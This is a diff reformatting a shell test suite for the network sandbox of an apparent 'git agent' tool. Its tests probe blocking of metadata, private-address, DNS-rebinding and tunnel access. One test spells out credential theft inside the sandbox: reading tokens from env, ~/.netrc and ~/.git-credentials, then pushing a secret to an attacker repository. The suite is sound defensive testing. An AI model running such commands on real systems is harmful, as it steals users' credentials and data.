@@ -66,7 +66,7 @@ test_wait_for 'test -e "$HOME/canary.ready"' || exit 1
 # says something, so that it is not taken for nothing.
 all_heard() {
 	if python3 -c 'import socket; s = socket.socket(socket.AF_UNIX); s.connect("\0the-end"); s.recv(9)' &&
-		test_wait_for 'grep -qx "the end" "$HOME/heard"'; then
+	test_wait_for 'grep -qx "the end" "$HOME/heard"'; then
 		grep -vx 'the end' "$HOME/heard" | sort -u
 		: >"$HOME/heard"
 	else
@@ -196,7 +196,10 @@ while True:
     c.sendall(b"inside\n")
     c.close()
 EOF_SERVE
-cd "$HOME/p" && git init -q . && git add . && git commit -qm base
+cd "$HOME/p" &&
+git init -q . &&
+git add . &&
+git commit -qm base
 cd "$TRASH" || exit 1
 : >"$HOME/heard"
 
@@ -206,56 +209,97 @@ in_session() {
 }
 
 test_expect_success 'all of it is there to be reached: without a wall it is' '
-	in_session --network host -- python3 attack.py >out 2>err && all_heard >heard &&
+	in_session --network host -- python3 attack.py >out 2>err &&
+	all_heard >heard &&
 	for what in "tcp 127.0.0.1 5432" "tcp ::1 22" "tcp 169.254.169.254 80" "tcp 10.1.2.3 7001" "tcp ::ffff:127.0.0.1 631" "tcp 2001:db8::10 9229" "tcp 0.0.0.0 80"; do
-		grep -Fx "$what" out || { echo "not reached: $what"; cat out err; exit 1; }
-	done && grep "^udp .* 53 .*tunnel" heard && grep "^tcp 100.100.100.200 443" heard
+		grep -Fx "$what" out || {
+			echo "not reached: $what"
+			cat out err
+			exit 1
+		}
+	done &&
+	grep "^udp .* 53 .*tunnel" heard &&
+	grep "^tcp 100.100.100.200 443" heard
 '
 
 test_expect_success 'NW-01: with no network nothing is reached, of any kind' '
-	in_session --no-network -- python3 attack.py >out && cat out && test ! -s out && test -z "$(all_heard)" &&
-	in_session --network none -- python3 attack.py >out && test ! -s out && test -z "$(all_heard)"
+	in_session --no-network -- python3 attack.py >out &&
+	cat out &&
+	test ! -s out &&
+	test -z "$(all_heard)" &&
+	in_session --network none -- python3 attack.py >out &&
+	test ! -s out &&
+	test -z "$(all_heard)"
 '
 
 test_expect_success 'NW-04: an empty list is nothing, and not all' '
-	in_session --network allow -- python3 attack.py >out && cat out && test ! -s out && test -z "$(all_heard)"
+	in_session --network allow -- python3 attack.py >out &&
+	cat out &&
+	test ! -s out &&
+	test -z "$(all_heard)"
 '
 
 test_expect_success 'NW-02 NW-03 NW-04 NW-05: what is listed is reached, and nothing else by any spelling, protocol or name' '
-	in_session --allow web.example.org:443 --allow "*.wild.example.net:443" --allow localhost:7001 -- python3 attack.py >out && all_heard >heard && cat out heard &&
-	# all that the host heard of: the two that are listed, never a datagram
-	! not_looked_up heard | grep -vx -e "tcp 192.0.2.10 443" -e "tcp 127.0.0.1 7001" -e "tcp ::1 7001" &&
-	grep -qx "tcp 192.0.2.10 443" heard && grep -qx "tcp 127.0.0.1 7001" heard &&
-	grep -aq "^proxy0 a.wild.example.net 443" out && grep -aq "^proxy2 web.example.org 443" out &&
-	# by what names it was reached
+	in_session --allow web.example.org:443 --allow "*.wild.example.net:443" --allow localhost:7001 -- python3 attack.py >out &&
+	all_heard >heard &&
+	cat out heard &&
+		# all that the host heard of: the two that are listed, never a datagram
+	! not_looked_up heard |
+		grep -vx -e "tcp 192.0.2.10 443" -e "tcp 127.0.0.1 7001" -e "tcp ::1 7001" &&
+	grep -qx "tcp 192.0.2.10 443" heard &&
+	grep -qx "tcp 127.0.0.1 7001" heard &&
+	grep -aq "^proxy0 a.wild.example.net 443" out &&
+	grep -aq "^proxy2 web.example.org 443" out &&
+		# by what names it was reached
 	! grep -av -e " 443$" -e " 7001$" out &&
-	! grep -a " 443$" out | grep -av -e "^proxy[0-3] web.example.org 443" -e "^proxy[0-3] a.wild.example.net\.* 443" -e "^tcp 127.64.0.2 443" -e "^tcp fd67:6974:6167::2 443"
+	! grep -a " 443$" out |
+		grep -av -e "^proxy[0-3] web.example.org 443" -e "^proxy[0-3] a.wild.example.net\.* 443" -e "^tcp 127.64.0.2 443" -e "^tcp fd67:6974:6167::2 443"
 '
 
 test_expect_success 'NW-02 NW-03 NW-04: a listed name leads to no address that is not listed: rebinding' '
-	in_session --allow rebound.example.org:80 --allow meta.example.org:80 --allow "*.wild.example.net:80" -- python3 attack.py >out && all_heard >heard && cat out heard &&
-	! not_looked_up heard | grep -vx "tcp 192.0.2.10 80" && grep -qx "tcp 192.0.2.10 80" heard &&
-	# an internal name may be listed, and leads there; a wildcard does not
-	in_session --allow private.example.org:80 --allow "*.wild.example.net:443" -- python3 attack.py >out && all_heard >heard && cat out heard &&
-	! not_looked_up heard | grep -vx -e "tcp 10.1.2.3 80" -e "tcp 192.0.2.10 443" && grep -qx "tcp 10.1.2.3 80" heard &&
-	# what is listed by its address is what was asked for
-	in_session --allow 169.254.169.254:80 --allow "[::1]:22" -- python3 attack.py >out && all_heard >heard && cat out heard &&
+	in_session --allow rebound.example.org:80 --allow meta.example.org:80 --allow "*.wild.example.net:80" -- python3 attack.py >out &&
+	all_heard >heard &&
+	cat out heard &&
+	! not_looked_up heard | grep -vx "tcp 192.0.2.10 80" &&
+	grep -qx "tcp 192.0.2.10 80" heard &&
+		# an internal name may be listed, and leads there; a wildcard does not
+	in_session --allow private.example.org:80 --allow "*.wild.example.net:443" -- python3 attack.py >out &&
+	all_heard >heard &&
+	cat out heard &&
+	! not_looked_up heard | grep -vx -e "tcp 10.1.2.3 80" -e "tcp 192.0.2.10 443" &&
+	grep -qx "tcp 10.1.2.3 80" heard &&
+		# what is listed by its address is what was asked for
+	in_session --allow 169.254.169.254:80 --allow "[::1]:22" -- python3 attack.py >out &&
+	all_heard >heard &&
+	cat out heard &&
 	printf "tcp 169.254.169.254 80\ntcp ::1 22\n" | test_cmp - heard
 '
 
 test_expect_success 'NW-03: nor to this machine by another of its addresses' '
-	in_session --allow own.example.org:80 --allow own6.example.org:80 --allow "*.wild.example.net:80" -- python3 attack.py >out && all_heard >heard && cat out heard &&
-	! not_looked_up heard | grep -vx "tcp 192.0.2.10 80" && grep -qx "tcp 192.0.2.10 80" heard &&
+	in_session --allow own.example.org:80 --allow own6.example.org:80 --allow "*.wild.example.net:80" -- python3 attack.py >out &&
+	all_heard >heard &&
+	cat out heard &&
+	! not_looked_up heard | grep -vx "tcp 192.0.2.10 80" &&
+	grep -qx "tcp 192.0.2.10 80" heard &&
 	in_session --name own --allow own.example.org:80 -- python3 -c "
 import socket
 try:
     print(socket.create_connection((\"own.example.org\", 80), 20).recv(9))
 except ConnectionResetError:
-    print(\"reset\")" >out && echo reset | test_cmp - out &&
-	git -C "$HOME/p" agent log --json own | grep "\"how\":\"forbidden\",\"to\":\"own.example.org:80\"" &&
-	git -C "$HOME/p" agent show own >shown && grep "^  allowed, and refused for the address it leads to: own.example.org:80; only with --allow ADDRESS:PORT\$" shown && ! grep -e "--allow own" shown && git -C "$HOME/p" agent show --json own | python3 -c "import json, sys; n = json.load(sys.stdin)[\"network\"]; assert n[\"refused\"] == [] and [r[\"to\"] for r in n[\"forbidden\"]] == [\"own.example.org:80\"], n" &&
-	in_session --allow own.example.org:80 --allow 198.51.100.5:80 -- python3 attack.py >out && all_heard >heard && cat out heard &&
-	echo "tcp 198.51.100.5 80" | test_cmp - heard && grep -aq "^proxy0 own.example.org 80" out
+    print(\"reset\")" >out &&
+	echo reset | test_cmp - out &&
+	git -C "$HOME/p" agent log --json own |
+		grep "\"how\":\"forbidden\",\"to\":\"own.example.org:80\"" &&
+	git -C "$HOME/p" agent show own >shown &&
+	grep "^  allowed, and refused for the address it leads to: own.example.org:80; only with --allow ADDRESS:PORT\$" shown &&
+	! grep -e "--allow own" shown &&
+	git -C "$HOME/p" agent show --json own |
+		python3 -c "import json, sys; n = json.load(sys.stdin)[\"network\"]; assert n[\"refused\"] == [] and [r[\"to\"] for r in n[\"forbidden\"]] == [\"own.example.org:80\"], n" &&
+	in_session --allow own.example.org:80 --allow 198.51.100.5:80 -- python3 attack.py >out &&
+	all_heard >heard &&
+	cat out heard &&
+	echo "tcp 198.51.100.5 80" | test_cmp - heard &&
+	grep -aq "^proxy0 own.example.org 80" out
 '
 
 test_expect_success 'NW-05: no look-up of what is not listed leaves the sandbox, whatever is in it' '
@@ -280,7 +324,11 @@ for tcp in False, True:
         assert (r[7] == 1) == what.startswith(b\"\\x3f\"), r
         assert not r[7] or r[-4:-2] == b\"\\x7f\\x40\", r
 print(\"all answered\")
-" >out && grep "all answered" out && all_heard >heard && cat heard && test ! -s heard
+" >out &&
+	grep "all answered" out &&
+	all_heard >heard &&
+	cat heard &&
+	test ! -s heard
 '
 
 # A forge: repositories that all can read, and the owner of a token can write. What it hears is a line
@@ -328,27 +376,50 @@ s.serve_forever()
 EOF_FORGE
 
 test_expect_success 'NW-06: a host that is listed can be read and, with no key of the user, not written; what an agent brings a key for is named' '
-	mkdir forge && for who in user attacker; do
-		git init -q --bare forge/$who/r.git && git -C forge/$who/r.git config http.receivepack true || exit 1
+	mkdir forge &&
+	for who in user attacker; do
+		git init -q --bare forge/$who/r.git &&
+		git -C forge/$who/r.git config http.receivepack true ||
+			exit 1
 	done &&
-	{ python3 forge.py & } && forge=$! &&
-	test_when_finished "kill $forge; rm -f \"$HOME/.git-credentials\" \"$HOME/.netrc\"; git config --global --unset credential.helper" && test_wait_for "test -e forge.ready" &&
+	{ python3 forge.py & } &&
+	forge=$! &&
+	test_when_finished "kill $forge; rm -f \"$HOME/.git-credentials\" \"$HOME/.netrc\"; git config --global --unset credential.helper" &&
+	test_wait_for "test -e forge.ready" &&
 	at=git.example.org:8080 &&
-	# all the ways in which the user has the key
-	git config --global credential.helper store && echo "http://user:user-token@$at" >"$HOME/.git-credentials" && printf "machine git.example.org login user password user-token\n" >"$HOME/.netrc" && chmod 600 "$HOME/.netrc" "$HOME/.git-credentials" &&
-	export GH_TOKEN=user-token GITHUB_TOKEN=user-token GIT_ASKPASS="$TRASH/askpass" SSH_AUTH_SOCK="$TRASH/agent.sock" && printf "#!/bin/sh\necho user-token\n" >askpass && chmod +x askpass &&
-	git -C "$HOME/p" push -q "http://$at/user/r.git" HEAD:refs/heads/main && grep "git-receive-pack.* user-token\$" forge.log &&
+		# all the ways in which the user has the key
+	git config --global credential.helper store &&
+	echo "http://user:user-token@$at" >"$HOME/.git-credentials" &&
+	printf "machine git.example.org login user password user-token\n" >"$HOME/.netrc" &&
+	chmod 600 "$HOME/.netrc" "$HOME/.git-credentials" &&
+	export GH_TOKEN=user-token GITHUB_TOKEN=user-token GIT_ASKPASS="$TRASH/askpass" SSH_AUTH_SOCK="$TRASH/agent.sock" &&
+	printf "#!/bin/sh\necho user-token\n" >askpass &&
+	chmod +x askpass &&
+	git -C "$HOME/p" push -q "http://$at/user/r.git" HEAD:refs/heads/main &&
+	grep "git-receive-pack.* user-token\$" forge.log &&
 	: >forge.log &&
 	in_session --name forge --allow $at -- sh -c "
 		export GIT_TERMINAL_PROMPT=0
 		git ls-remote http://$at/user/r.git refs/heads/main | grep -c main
-		git push http://$at/user/r.git HEAD:refs/heads/taken && echo written
-		env | grep user-token; cat ~/.netrc ~/.git-credentials \"$TRASH/askpass\"; test -S \"$TRASH/agent.sock\" && echo agent
-		echo secret >secret && git add secret && git -c user.name=A -c user.email=a@example.com commit -qm secret && git push -q http://a:attacker-token@$at/attacker/r.git HEAD:refs/heads/out && echo sent
-	" >out 2>err && cat out err forge.log &&
-	printf "1\nsent\n" | test_cmp - out && grep "git-receive-pack" forge.log && ! grep user-token forge.log &&
-	test_must_fail git -C forge/user/r.git rev-parse -q --verify taken && test "$(git -C forge/attacker/r.git show out:secret)" = secret &&
-	git -C "$HOME/p" agent log --json forge >log && python3 - log $at <<-\EOT
+		git push http://$at/user/r.git HEAD:refs/heads/taken &&
+		echo written
+		env | grep user-token
+		cat ~/.netrc ~/.git-credentials \"$TRASH/askpass\"
+		test -S \"$TRASH/agent.sock\" &&
+		echo agent
+		echo secret >secret &&
+		git add secret &&
+		git -c user.name=A -c user.email=a@example.com commit -qm secret &&
+		git push -q http://a:attacker-token@$at/attacker/r.git HEAD:refs/heads/out &&
+		echo sent" >out 2>err &&
+	cat out err forge.log &&
+	printf "1\nsent\n" | test_cmp - out &&
+	grep "git-receive-pack" forge.log &&
+	! grep user-token forge.log &&
+	test_must_fail git -C forge/user/r.git rev-parse -q --verify taken &&
+	test "$(git -C forge/attacker/r.git show out:secret)" = secret &&
+	git -C "$HOME/p" agent log --json forge >log &&
+	python3 - log $at <<-\EOT
 	import json, sys
 	last = [e for e in map(json.loads, open(sys.argv[1])) if e["event"] == "network"][0]["connections"]
 	assert [(c["how"], c["to"]) for c in last] == [("allowed", sys.argv[2])] and last[0]["out"] > 500, last
@@ -357,7 +428,8 @@ test_expect_success 'NW-06: a host that is listed can be read and, with no key o
 
 # served OPTIONS: a session `web` in which something listens on port 9999
 served() {
-	in_session "$@" --name web -d -- python3 serve.py 9999 && test_wait_for 'git -C "$HOME/p" agent shell web -- test -e ready'
+	in_session "$@" --name web -d -- python3 serve.py 9999 &&
+	test_wait_for 'git -C "$HOME/p" agent shell web -- test -e ready'
 }
 
 test_expect_success 'NW-07: what listens inside is not to be reached from the host, unless it is published, and then on 127.0.0.1' '
@@ -369,15 +441,28 @@ for a in (\"127.0.0.1\", \"::1\", \"192.0.2.10\", \"10.1.2.3\"):
     except OSError:
         pass" &&
 	for options in "--network none" "--network allow"; do
-		served $options && python3 -c "$tries" 9999 >out || exit 1
-		git -C "$HOME/p" agent stop web && git -C "$HOME/p" agent drop --force web && cat out && test ! -s out || exit 1
+		served $options &&
+		python3 -c "$tries" 9999 >out || exit 1
+		git -C "$HOME/p" agent stop web &&
+		git -C "$HOME/p" agent drop --force web &&
+		cat out &&
+		test ! -s out ||
+			exit 1
 	done &&
-	# it is there to be reached
-	served --network host && python3 -c "$tries" 9999 >out &&
-	git -C "$HOME/p" agent stop web && git -C "$HOME/p" agent drop --force web && cat out && test "$(grep -c inside out)" = 4 &&
-	printf "network:\n  mode: allow\n  publish: [\"9998:9999\"]\n" >"$conf" && test_when_finished "rm -f \"$conf\"" &&
-	served && python3 -c "$tries" 9998 >out &&
-	git -C "$HOME/p" agent stop web && cat out && echo "127.0.0.1 inside" | test_cmp - out
+		# it is there to be reached
+	served --network host &&
+	python3 -c "$tries" 9999 >out &&
+	git -C "$HOME/p" agent stop web &&
+	git -C "$HOME/p" agent drop --force web &&
+	cat out &&
+	test "$(grep -c inside out)" = 4 &&
+	printf "network:\n  mode: allow\n  publish: [\"9998:9999\"]\n" >"$conf" &&
+	test_when_finished "rm -f \"$conf\"" &&
+	served &&
+	python3 -c "$tries" 9998 >out &&
+	git -C "$HOME/p" agent stop web &&
+	cat out &&
+	echo "127.0.0.1 inside" | test_cmp - out
 '
 
 test_expect_success 'NW-08: junk, floods and clients that wait leave the proxy and the name server at work' '
@@ -418,11 +503,15 @@ assert socket.gethostbyname(\"web.example.org\") == \"127.64.0.2\"
 s = socket.create_connection((\"web.example.org\", 443), 60)
 assert s.recv(9) == b\"owned\\n\"
 print(\"still there\")
-" >out && grep "still there" out && all_heard >/dev/null
+" >out &&
+	grep "still there" out &&
+	all_heard >/dev/null
 '
 
 test_expect_success 'what was refused is said at the end, and in the journal' '
-	(cd "$HOME/p" && timeout 180 git agent start --name said --allow web.example.org:443 -- python3 -c "
+	(
+		cd "$HOME/p" &&
+		timeout 180 git agent start --name said --allow web.example.org:443 -- python3 -c "
 import socket
 for name in \"nothere.example.org\", \"db.example.org\":
     try:
@@ -433,8 +522,20 @@ try:
     socket.create_connection((\"10.1.2.3\", 80), 20)
 except ConnectionRefusedError as e:
     print(e)
-") >out 2>err && cat out err && grep -c "Errno" out | grep -x 3 &&
-	grep "refused 3 connections: " err && for to in nothere.example.org:5432 db.example.org:5432 10.1.2.3:80; do grep "allow with .*--allow $to\b" err || exit 1; done && git -C "$HOME/p" agent log said >journal && cat journal && grep "to db.example.org:5432, how refused" journal && grep "to nothere.example.org:5432, how refused" journal && grep "to 10.1.2.3:80, how refused" journal
+"
+
+	) >out 2>err &&
+	cat out err &&
+	grep -c "Errno" out | grep -x 3 &&
+	grep "refused 3 connections: " err &&
+	for to in nothere.example.org:5432 db.example.org:5432 10.1.2.3:80; do
+		grep "allow with .*--allow $to\b" err || exit 1
+	done &&
+	git -C "$HOME/p" agent log said >journal &&
+	cat journal &&
+	grep "to db.example.org:5432, how refused" journal &&
+	grep "to nothere.example.org:5432, how refused" journal &&
+	grep "to 10.1.2.3:80, how refused" journal
 '
 
 trap - EXIT
